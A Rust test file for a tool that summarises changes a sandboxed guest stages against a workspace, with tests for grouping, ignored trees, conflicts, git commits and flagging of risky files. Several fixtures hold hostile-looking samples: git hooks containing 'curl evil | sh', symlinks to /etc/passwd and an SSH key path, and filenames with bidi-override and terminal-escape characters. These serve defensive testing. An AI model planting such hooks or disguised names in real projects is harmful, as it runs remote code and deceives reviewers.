//! Summary tests: change sets staged by hand against a temp workspace.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::time::Instant;

use super::*;
use crate::changes::testutil::{Fx, Set, fx, git, have_git, p, stage_difference, write};
use crate::review::git::GitEvent;
use crate::review::style::Painter;
use crate::review::testutil::options;

fn summary(f: &Fx) -> Summary {
    Summary::build(&f.store, &f.ws, &options()).unwrap()
}

fn text(summary: &Summary, limit: Option<usize>) -> String {
    let mut out = Vec::new();
    let opts = RenderOptions { painter: Painter::plain(), limit, session: Some("20250301-101500-abcd") };
    summary.render(&mut out, &opts).unwrap();
    String::from_utf8(out).unwrap()
}

fn group<'a>(s: &'a Summary, key: &GroupKey) -> &'a Group {
    s.groups.iter().find(|g| g.key == *key).unwrap_or_else(|| panic!("no group {key:?} in {:?}", s.groups))
}

#[test]
fn groups_by_directory_with_counts_and_line_counts() {
    let f = fx();
    write(&f.ws.join("src/main.rs"), b"fn main() {\n    old();\n}\n");
    write(&f.ws.join("docs/old.md"), b"one\ntwo\nthree\n");
    write(&f.ws.join("README"), b"hi\n");
    Set::new(&f.ws)
        .file("src/main.rs", b"fn main() {\n    new();\n}\n", 0o644)
        .file("src/util.rs", b"pub fn a() {}\npub fn b() {}\n", 0o644)
        .delete("docs/old.md")
        .dir("src/new", 0o755)
        .file("src/new/a.rs", b"x\n", 0o644)
        .stage(&f.store);
    let s = summary(&f);
    assert_eq!(s.tally.total(), 4, "the new directory is shown through its file");
    let src = group(&s, &GroupKey::Dir(Some(p("src"))));
    assert_eq!((src.tally.added, src.tally.modified), (1, 1));
    assert_eq!(src.tally.lines, LineStat { added: 3, removed: 1 });
    let docs = group(&s, &GroupKey::Dir(Some(p("docs"))));
    assert_eq!((docs.tally.deleted, docs.tally.lines.removed), (1, 3));
    assert_eq!(group(&s, &GroupKey::Dir(Some(p("src/new")))).tally.added, 1);

    let out = text(&s, None);
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines.iter().any(|l| l.starts_with("  src/") && l.contains("+3 -1") && l.contains("1 added, 1 modified")),
        "{out}"
    );
    assert!(lines.iter().any(|l| l.contains("M  src/main.rs") && l.contains("+1 -1")), "{out}");
    assert!(lines.iter().any(|l| l.contains("D  docs/old.md") && l.contains("-3")), "{out}");
    assert!(!out.contains("A  src/new\n") && !out.contains("new empty directory"), "{out}");
    let docs_at = out.find("docs/").unwrap();
    assert!(docs_at < out.find("  src/").unwrap(), "directories in tree order: {out}");
}

#[test]
fn ignored_trees_collapse_into_one_line_each() {
    let f = fx();
    write(&f.ws.join(".gitignore"), b"node_modules/\n/target\n");
    let mut set = Set::new(&f.ws).dir("node_modules", 0o755);
    for i in 0..30 {
        set = set.dir(&format!("node_modules/pkg{i}"), 0o755).file(
            &format!("node_modules/pkg{i}/index.js"),
            b"module.exports = 1;\n",
            0o644,
        );
    }
    set.dir("node_modules/.bin", 0o755)
        .file("node_modules/.bin/tool", b"#!/bin/sh\n", 0o755)
        .dir("target", 0o755)
        .file("target/app", b"\x7fELF\0", 0o755)
        .file("src.rs", b"fn x() {}\n", 0o644)
        .stage(&f.store);
    let s = summary(&f);
    let nm = group(&s, &GroupKey::Ignored(p("node_modules")));
    assert_eq!(nm.tally.added, 31);
    assert_eq!(nm.tally.executables, 1);
    assert!(matches!(
        s.items.iter().find(|i| i.path() == &p("node_modules/pkg3/index.js")).unwrap().lines,
        Lines::None
    ));

    let out = text(&s, Some(40));
    assert!(out.contains("ignored by git (collapsed):"), "{out}");
    let nm_line = out.lines().find(|l| l.contains("node_modules/")).unwrap();
    assert!(nm_line.contains("31 added") && nm_line.contains("1 executable"), "{nm_line}");
    assert!(!out.contains("pkg3"), "no file of an ignored tree is listed: {out}");
    assert!(out.lines().any(|l| l.trim_start().starts_with("target/") && l.contains("1 added")), "{out}");
    assert!(out.contains("src.rs"), "{out}");
}

#[test]
fn a_gitignore_written_by_the_guest_does_not_hide_its_changes() {
    let f = fx();
    Set::new(&f.ws).file(".gitignore", b"*\n", 0o644).file("evil.rs", b"x\n", 0o644).stage(&f.store);
    let s = summary(&f);
    assert!(s.items.iter().all(|i| i.place == Place::Normal), "{:?}", s.items);
}

#[test]
fn execution_sensitive_files_stand_alone_and_are_flagged() {
    let f = fx();
    write(&f.ws.join(".gitignore"), b".vscode/\n");
    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
    Set::new(&f.ws)
        .dir(".git/hooks", 0o755)
        .file(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
        .dir(".github", 0o755)
        .dir(".github/workflows", 0o755)
        .file(".github/workflows/ci.yml", b"on: push\n", 0o644)
        .dir(".vscode", 0o755)
        .file(".vscode/tasks.json", b"{}\n", 0o644)
        .file(".envrc", b"use nix\n", 0o644)
        .dir("scripts", 0o755)
        .file("scripts/run.sh", b"#!/bin/sh\n", 0o755)
        .stage(&f.store);
    let s = summary(&f);
    let dangers: Vec<String> = s
        .groups
        .iter()
        .filter_map(|g| match g.key {
            GroupKey::Danger(i) => Some(s.items[i].path().to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(dangers, [".envrc", ".git/hooks/pre-commit", ".github/workflows/ci.yml", ".vscode/tasks.json"]);
    let run = s.items.iter().find(|i| i.path() == &p("scripts/run.sh")).unwrap();
    assert!(run.now_executable && run.danger.is_none());

    let out = text(&s, Some(40));
    let attention = &out[out.find("runs code by itself").expect(&out)..];
    assert!(attention.contains("! A  .git/hooks/pre-commit") && attention.contains("git hook"), "{out}");
    assert!(attention.contains(".vscode/tasks.json"), "ignored yet sensitive, so listed: {out}");
    assert!(attention.contains("CI configuration"), "{out}");
    assert!(out.lines().any(|l| l.contains("scripts/run.sh") && l.contains("now executable")), "{out}");
}

#[test]
fn symlinks_binaries_and_modes_are_described() {
    let f = fx();
    write(&f.ws.join("tool"), b"#!/bin/sh\n");
    fs::set_permissions(f.ws.join("tool"), fs::Permissions::from_mode(0o644)).unwrap();
    Set::new(&f.ws)
        .symlink("passwd", "/etc/passwd")
        .symlink("inside", "tool")
        .file("logo.png", b"\x89PNG\r\n\x1a\n\0\0\0", 0o644)
        .mode("tool", 0o755)
        .stage(&f.store);
    let out = text(&summary(&f), None);
    let line = |needle: &str| out.lines().find(|l| l.contains(needle)).unwrap_or_else(|| panic!("{needle}: {out}"));
    assert!(line("passwd").contains("symlink → /etc/passwd") && line("passwd").contains("outside the workspace"));
    assert!(line("inside").contains("symlink → tool") && !line("inside").contains("outside"));
    assert!(line("logo.png").contains("binary, 11 B, sha256 "), "{out}");
    assert!(line("M  tool").contains("mode 644 → 755") && line("M  tool").contains("now executable"), "{out}");
}

#[test]
fn conflicts_with_the_host_are_flagged() {
    let f = fx();
    write(&f.ws.join("a.txt"), b"base\n");
    Set::new(&f.ws).file("a.txt", b"guest\n", 0o644).file("b.txt", b"new\n", 0o644).stage(&f.store);
    write(&f.ws.join("a.txt"), b"host edit\n");
    let s = summary(&f);
    assert!(s.items.iter().find(|i| i.path() == &p("a.txt")).unwrap().blocked.is_some());
    assert_eq!(s.blocked().count(), 1);
    let out = text(&s, None);
    assert!(out.lines().any(|l| l.contains("a.txt") && l.ends_with("conflict")), "{out}");
    assert!(out.contains("1 path not applicable as staged"), "{out}");
    assert!(out.contains("changed on the host"), "{out}");
}

#[test]
fn large_sets_list_directories_only() {
    let f = fx();
    let mut set = Set::new(&f.ws);
    for d in 0..5 {
        set = set.dir(&format!("d{d}"), 0o755);
        for i in 0..20 {
            set = set.file(&format!("d{d}/f{i}"), b"x\n", 0o644);
        }
    }
    set.stage(&f.store);
    let out = text(&summary(&f), Some(40));
    assert!(!out.contains("d0/f1"), "{out}");
    assert!(out.contains("d4/") && out.contains("20 added"), "{out}");
    assert!(out.contains("100 paths in all; `stockade diff --stat 20250301-101500-abcd` lists each"), "{out}");
    assert!(text(&summary(&f), None).contains("d0/f1"));
}

/// The guest commits in its copy of a git repository; review shows a commit.
#[test]
fn a_guest_commit_shows_as_a_commit_not_as_object_files() {
    if !have_git() {
        return;
    }
    let f = fx();
    git(&f.ws, &["init", "-q", "-b", "main"]);
    write(&f.ws.join("parser.rs"), b"fn parse() {}\n");
    git(&f.ws, &["add", "."]);
    git(&f.ws, &["commit", "-q", "-m", "Initial"]);
    let old = git(&f.ws, &["rev-parse", "HEAD"]).trim().to_string();

    let guest = f._tmp.path().join("guest");
    let cp = std::process::Command::new("cp").args(["-a"]).arg(&f.ws).arg(&guest).status().unwrap();
    assert!(cp.success());
    write(&guest.join("parser.rs"), b"fn parse() { fixed() }\n");
    git(&guest, &["commit", "-q", "-am", "Fix the parser\n\nLong description."]);
    write(&guest.join("more.rs"), b"x\n");
    git(&guest, &["add", "more.rs"]);
    git(&guest, &["commit", "-q", "-m", "Add more"]);
    git(&guest, &["checkout", "-q", "-b", "feature"]);
    let new = git(&guest, &["rev-parse", "HEAD"]).trim().to_string();
    stage_difference(&f.ws, &guest, &f.store);

    let s = summary(&f);
    let activity = &s.git[&p(".git")];
    assert!(activity.objects >= 6, "{activity:?}");
    let moved: Vec<&GitEvent> = activity.events.iter().filter(|e| matches!(e, GitEvent::Moved { .. })).collect();
    assert_eq!(moved.len(), 2, "{activity:?}");
    let GitEvent::Moved { reference, old: o, new: n, commits, fast_forward, .. } = moved[1] else { unreachable!() };
    assert_eq!(
        (reference.as_str(), o.as_deref(), n.as_str(), *fast_forward),
        ("refs/heads/main", Some(old.as_str()), new.as_str(), true)
    );
    let subjects: Vec<&str> = commits.iter().map(|c| c.subject.as_str()).collect();
    assert_eq!(subjects, ["Add more", "Fix the parser"]);
    assert!(activity.events.contains(&GitEvent::Head { from: "main".into(), to: "feature".into() }), "{activity:?}");

    let out = text(&s, Some(40));
    assert!(out.contains("git: 2 new commits on main"), "{out}");
    assert!(out.contains("Fix the parser") && out.contains("Add more"), "{out}");
    assert!(out.contains("git: feature created at"), "{out}");
    assert!(out.contains("git: HEAD switched from main to feature"), "{out}");
    assert!(!out.contains(".git/objects/"), "objects are collapsed: {out}");
    assert!(out.contains("M  parser.rs"), "the work tree change is listed as usual: {out}");
    assert!(s.groups.iter().any(|g| g.key == GroupKey::Git(p(".git"))));
}

#[test]
fn ten_thousand_files_summarize_in_well_under_a_second() {
    let f = fx();
    for d in 0..100 {
        for i in 0..50 {
            write(&f.ws.join(format!("d{d}/f{i}.txt")), format!("line one\nline {i}\nline three\n").as_bytes());
        }
    }
    let mut set = Set::new(&f.ws);
    for d in 0..100 {
        for i in 0..50 {
            let path = format!("d{d}/f{i}.txt");
            set = set.file(&path, format!("line one\nline {i} changed\nline three\nand more\n").as_bytes(), 0o644);
        }
        for i in 0..50 {
            set = set.file(&format!("d{d}/new{i}.txt"), b"fresh\nfile\n", 0o644);
        }
    }
    set.stage(&f.store);
    let started = Instant::now();
    let checked = crate::changes::check(&f.store, &f.ws, &crate::changes::ApplyOptions::all()).unwrap();
    assert!(checked.conflicts.is_empty());
    eprintln!("conflict check of 10,000 changes alone: {:?}", started.elapsed());
    let started = Instant::now();
    let s = summary(&f);
    let built = started.elapsed();
    let out = text(&s, Some(40));
    let total = started.elapsed();
    eprintln!(
        "summary of {} changes: built in {built:?}, rendered in {:?}; {} uncounted",
        s.tally.total(),
        total - built,
        s.uncounted
    );
    assert_eq!(s.tally.total(), 10_000);
    assert!(out.contains("… and 60 more directories"), "{out}");
    let bound = if cfg!(debug_assertions) { 10.0 } else { 1.0 };
    assert!(total.as_secs_f64() < bound, "took {total:?}");
}

#[test]
fn thousands_of_new_refs_are_listed_briefly() {
    let f = fx();
    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
    let mut set = Set::new(&f.ws).dir(".git/refs", 0o755).dir(".git/refs/tags", 0o755);
    for i in 0..2000 {
        set = set.file(&format!(".git/refs/tags/v{i}"), format!("{:040x}\n", i + 1).as_bytes(), 0o644);
    }
    set.stage(&f.store);
    let started = Instant::now();
    let s = summary(&f);
    assert_eq!(s.git[&p(".git")].events.len(), 2000);
    let out = text(&s, Some(40));
    assert!(started.elapsed().as_secs_f64() < 5.0);
    assert!(out.contains("git: … and 1,980 more ref changes"), "{out}");
    assert_eq!(out.lines().filter(|l| l.contains("created at")).count(), 20, "{out}");
}

#[test]
fn fifty_decoys_do_not_push_a_real_hook_out_of_the_list() {
    let f = fx();
    let mut set = Set::new(&f.ws);
    for i in 0..50 {
        set = set.dir(&format!("d{i:02}"), 0o755).file(&format!("d{i:02}/.envrc"), b"echo hi\n", 0o644);
    }
    set.dir(".git/hooks", 0o755).file(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n", 0o755).stage(&f.store);
    let out = text(&summary(&f), Some(40));
    let attention = &out[out.find("runs code by itself").expect(&out)..];
    assert_eq!(attention.lines().filter(|l| l.starts_with("  ! ")).count(), 51, "{out}");
    assert!(attention.contains(".git/hooks/pre-commit"), "{out}");
    assert!(!out.contains("more"), "nothing flagged is cut: {out}");
}

#[test]
fn a_hooks_symlink_shows_each_hook_as_the_hook_it_becomes() {
    let f = fx();
    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
    write(&f.ws.join(".git/hooks/pre-commit.sample"), b"#!/bin/sh\n");
    Set::new(&f.ws)
        .symlink(".git/hooks", "../tools/githooks")
        .dir("tools", 0o755)
        .dir("tools/githooks", 0o755)
        .file("tools/githooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
        .file(".git/info/exclude", b"secret/\n", 0o644)
        .file(".git/objects/ab/cdef", b"x", 0o444)
        .stage(&f.store);
    let s = summary(&f);
    let out = text(&s, Some(40));
    let attention = &out[out.find("runs code by itself").expect(&out)..];
    assert!(
        attention.lines().any(|l| l.contains(".git/hooks") && l.contains("symlink inside a git directory")),
        "{out}"
    );
    assert!(
        attention
            .lines()
            .any(|l| l.contains("tools/githooks/post-checkout") && l.contains("as .git/hooks/post-checkout")),
        "{out}"
    );
    assert!(attention.lines().any(|l| l.contains(".git/info/exclude") && l.contains("git internals")), "{out}");
    let git = s.groups.iter().find(|g| matches!(g.key, GroupKey::Git(_))).expect("the objects stay a git group");
    assert_eq!(s.group_paths(git), [p(".git/objects/ab/cdef")]);
}

#[test]
fn names_and_symlink_targets_cannot_hide_or_reorder_text() {
    let f = fx();
    Set::new(&f.ws)
        .file("invoice\u{202E}gpj.sh", b"#!/bin/sh\n", 0o755)
        .file(".env\u{200B}rc", b"x\n", 0o644)
        .file("a\u{1b}[2Kb", b"x\n", 0o644)
        .file("c\u{9b}31md", b"x\n", 0o644)
        .symlink(".envrc", "safe\u{2066}/../../../home/u/.ssh/id\u{2069}")
        .stage(&f.store);
    let out = text(&summary(&f), None);
    for raw in ['\u{202E}', '\u{200B}', '\u{1b}', '\u{9b}', '\u{2066}', '\u{2069}'] {
        assert!(!out.contains(raw), "{raw:?} printed raw: {out:?}");
    }
    assert!(out.contains("invoice\\u{202e}gpj.sh") && out.contains(".env\\u{200b}rc"), "{out}");
    assert!(out.contains("safe\\u{2066}/../../../home/u/.ssh/id\\u{2069}"), "{out}");
}

/// Classification of a change set 1,500 directories deep (the guest chooses
/// the depth): each directory is judged once, from its parent's verdict.
/// Prints the time; run with `--ignored --nocapture` for the number.
#[test]
#[ignore = "a measurement: prints the time of a deep change set"]
fn deep_change_sets_classify_in_linear_time() {
    let f = fx();
    write(&f.ws.join(".gitignore"), b"*.tmp\n");
    let mut set = Set::new(&f.ws);
    let mut dir = String::new();
    let depth: usize = std::env::var("DEEP").ok().and_then(|d| d.parse().ok()).unwrap_or(1_500);
    for level in 0..depth {
        dir = if dir.is_empty() { "a".to_string() } else { format!("{dir}/a") };
        set = set.dir(&dir, 0o755);
        if level % 10 == 0 {
            for i in 0..10 {
                set = set.file(&format!("{dir}/f{i}"), b"x\n", 0o644);
            }
        }
    }
    set.stage(&f.store);
    let started = Instant::now();
    let options = SummaryOptions { count_lines: false, ..options() };
    let s = Summary::build(&f.store, &f.ws, &options).unwrap();
    eprintln!("summary of {} entries up to 1,500 deep: {:?}", s.items.len(), started.elapsed());
}
